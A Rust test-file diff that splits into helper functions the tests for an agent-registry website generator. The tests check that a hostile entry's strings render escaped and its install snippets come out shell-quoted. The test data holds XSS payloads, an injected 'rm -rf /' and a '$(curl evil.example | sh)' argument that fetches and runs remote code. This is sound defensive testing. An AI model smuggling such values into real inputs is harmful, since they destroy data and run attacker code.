@@ -148,7 +148,34 @@ fn hostile_content_renders_as_inert_text() {
     let page = text(&files, "agents/evil/index.html");
     let index = text(&files, "index.html");
 
-    for (html, forms) in [(&page, 0), (&index, 1)] {
+    assert_hostile_markup_is_text(&page, &index);
+    assert_hostile_readme_is_sanitised(&page);
+    assert_hostile_snippets_are_quoted(&page);
+
+    // The icon is re-serialised without script, handler or foreign reference.
+    let icon = text(&files, "icons/evil.svg");
+    assert_eq!(
+        icon,
+        "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"16\" height=\"16\" viewBox=\"0 0 16 16\"><path d=\"M1 1h14\" stroke=\"currentColor\"/></svg>\n"
+    );
+
+    // agents.json keeps the raw strings (it is data; the script only sets textContent).
+    let index_json: Value = serde_json::from_slice(&files["agents.json"]).unwrap();
+    let evil = index_json["agents"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|a| a["id"] == "evil")
+        .unwrap();
+    assert_eq!(evil["name"], "<script>alert('name')</script>Evil");
+    assert_eq!(evil["href"], "agents/evil/index.html");
+    assert_eq!(evil["icon"], "i-evil");
+}
+
+/// The hostile entry's page and the index: no markup from its strings, which show escaped,
+/// and no unsafe URL.
+fn assert_hostile_markup_is_text(page: &str, index: &str) {
+    for (html, forms) in [(page, 0), (index, 1)] {
         for (tag, attrs) in tags(html) {
             assert!(
                 !["img", "svg", "iframe", "i", "b", "object", "embed", "style", "textarea"]
@@ -198,7 +225,10 @@ fn hostile_content_renders_as_inert_text() {
     assert!(page.contains(
         r#"<a href="https://evil.example/download/v1.0.0/evil.tar.gz?x=%22%3E%3Cscript%3Ealert(%27query%27)%3C/script%3E" rel="noopener noreferrer">"#
     ), "{page}");
+}
 
+/// The hostile entry's README, as rendered on its page.
+fn assert_hostile_readme_is_sanitised(page: &str) {
     // README: scripts, handlers, frames, forms, styles and non-http(s) links are gone;
     // good and relative links stay, with rel; images become links.
     let readme_start =
@@ -242,10 +272,13 @@ fn hostile_content_renders_as_inert_text() {
     assert!(readme.contains("markdown js link\n"), "{readme}");
     assert!(readme.contains("<h3>Evil </h3>"), "{readme}");
     assert!(readme.contains("<table>"), "{readme}");
+}
 
+/// The hostile entry's install snippets.
+fn assert_hostile_snippets_are_quoted(page: &str) {
     // Snippets: JSON that parses back to exactly the manifest's strings, and shell words
     // quoted so nothing runs.
-    let zed: Value = serde_json::from_str(&element_text(&page, "stable-zed-1").unwrap()).unwrap();
+    let zed: Value = serde_json::from_str(&element_text(page, "stable-zed-1").unwrap()).unwrap();
     let server = &zed["agent_servers"]["<script>alert('name')</script>Evil"];
     assert_eq!(server["command"], "npx");
     assert_eq!(
@@ -262,30 +295,11 @@ fn hostile_content_renders_as_inert_text() {
         server["env"],
         json!({"A\"B": "<script>", "EVIL": "'; rm -rf / #"})
     );
-    let cli = element_text(&page, "stable-cli-1").unwrap();
+    let cli = element_text(page, "stable-cli-1").unwrap();
     assert_eq!(
         cli,
         r#"env 'A"B=<script>' 'EVIL='\''; rm -rf / #' npx -y 'evil@1.0.0"; rm -rf / #' --acp '$(curl evil.example | sh)' '</script><script>alert('\''arg'\'')</script>'"#
     );
-
-    // The icon is re-serialised without script, handler or foreign reference.
-    let icon = text(&files, "icons/evil.svg");
-    assert_eq!(
-        icon,
-        "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"16\" height=\"16\" viewBox=\"0 0 16 16\"><path d=\"M1 1h14\" stroke=\"currentColor\"/></svg>\n"
-    );
-
-    // agents.json keeps the raw strings (it is data; the script only sets textContent).
-    let index_json: Value = serde_json::from_slice(&files["agents.json"]).unwrap();
-    let evil = index_json["agents"]
-        .as_array()
-        .unwrap()
-        .iter()
-        .find(|a| a["id"] == "evil")
-        .unwrap();
-    assert_eq!(evil["name"], "<script>alert('name')</script>Evil");
-    assert_eq!(evil["href"], "agents/evil/index.html");
-    assert_eq!(evil["icon"], "i-evil");
 }
 
 #[test]
@@ -468,34 +482,42 @@ fn install_snippets_follow_the_manifest() {
 
     // npx, with a preview channel (gemini in the bundled registry).
     if let Some(gemini) = by_id("gemini") {
-        let page = text(&files, "agents/gemini/index.html");
-        let name = gemini.agent["name"].as_str().unwrap();
-        let npx = &gemini.agent["distribution"]["npx"];
-        let mut args = vec![json!("-y"), npx["package"].clone()];
-        args.extend(npx["args"].as_array().cloned().unwrap_or_default());
-        let zed: Value =
-            serde_json::from_str(&element_text(&page, "stable-zed-1").unwrap()).unwrap();
-        assert_eq!(
-            zed,
-            json!({"agent_servers": {name: {"type": "custom", "command": "npx", "args": args, "env": {}}}})
-        );
-        let jetbrains: Value =
-            serde_json::from_str(&element_text(&page, "stable-jetbrains-1").unwrap()).unwrap();
-        assert_eq!(
-            jetbrains,
-            json!({"agent_servers": {name: {"command": "npx", "args": args, "env": {}}}})
-        );
-        assert_eq!(
-            element_text(&page, "stable-cli-1").unwrap(),
-            format!("npx -y {} --acp", npx["package"].as_str().unwrap())
-        );
-        let preview = gemini.preview.as_ref().expect("gemini has a preview");
-        let preview_cli = element_text(&page, "preview-cli-1").unwrap();
-        assert!(preview_cli.contains(preview["distribution"]["npx"]["package"].as_str().unwrap()));
-        assert!(page.contains("<h2 id=\"install-preview-title\">Install the preview "));
+        assert_npx_snippets(gemini, &files);
     }
+    assert_uvx_snippets(&agents, &files);
+    assert_binary_snippets(&agents, &files);
+}
 
-    // uvx.
+/// npx snippets, stable and preview, on gemini's page.
+fn assert_npx_snippets(gemini: &SiteAgent, files: &BTreeMap<String, Vec<u8>>) {
+    let page = text(files, "agents/gemini/index.html");
+    let name = gemini.agent["name"].as_str().unwrap();
+    let npx = &gemini.agent["distribution"]["npx"];
+    let mut args = vec![json!("-y"), npx["package"].clone()];
+    args.extend(npx["args"].as_array().cloned().unwrap_or_default());
+    let zed: Value = serde_json::from_str(&element_text(&page, "stable-zed-1").unwrap()).unwrap();
+    assert_eq!(
+        zed,
+        json!({"agent_servers": {name: {"type": "custom", "command": "npx", "args": args, "env": {}}}})
+    );
+    let jetbrains: Value =
+        serde_json::from_str(&element_text(&page, "stable-jetbrains-1").unwrap()).unwrap();
+    assert_eq!(
+        jetbrains,
+        json!({"agent_servers": {name: {"command": "npx", "args": args, "env": {}}}})
+    );
+    assert_eq!(
+        element_text(&page, "stable-cli-1").unwrap(),
+        format!("npx -y {} --acp", npx["package"].as_str().unwrap())
+    );
+    let preview = gemini.preview.as_ref().expect("gemini has a preview");
+    let preview_cli = element_text(&page, "preview-cli-1").unwrap();
+    assert!(preview_cli.contains(preview["distribution"]["npx"]["package"].as_str().unwrap()));
+    assert!(page.contains("<h2 id=\"install-preview-title\">Install the preview "));
+}
+
+/// uvx snippets on the page of an agent published only through uvx.
+fn assert_uvx_snippets(agents: &[SiteAgent], files: &BTreeMap<String, Vec<u8>>) {
     let uvx = agents
         .iter()
         .find(|a| {
@@ -503,7 +525,7 @@ fn install_snippets_follow_the_manifest() {
                 && a.agent["distribution"].get("npx").is_none()
         })
         .expect("a uvx agent");
-    let page = text(&files, &format!("agents/{}/index.html", uvx.id));
+    let page = text(files, &format!("agents/{}/index.html", uvx.id));
     let zed: Value = serde_json::from_str(&element_text(&page, "stable-zed-1").unwrap()).unwrap();
     let server = zed["agent_servers"]
         .as_object()
@@ -520,7 +542,10 @@ fn install_snippets_follow_the_manifest() {
     assert!(element_text(&page, "stable-cli-1")
         .unwrap()
         .starts_with("uvx "));
+}
 
+/// Download list and snippets on the page of an agent published only as binaries.
+fn assert_binary_snippets(agents: &[SiteAgent], files: &BTreeMap<String, Vec<u8>>) {
     // Binary: per-platform downloads with checksums and a run command; editor snippets
     // point into the unpacked folder, grouped by how the platforms launch.
     let binary = agents
@@ -530,7 +555,7 @@ fn install_snippets_follow_the_manifest() {
             d.get("binary").is_some() && d.get("npx").is_none() && d.get("uvx").is_none()
         })
         .expect("a binary agent");
-    let page = text(&files, &format!("agents/{}/index.html", binary.id));
+    let page = text(files, &format!("agents/{}/index.html", binary.id));
     let targets = binary.agent["distribution"]["binary"].as_object().unwrap();
     for (platform, target) in targets {
         let archive = target["archive"].as_str().unwrap();
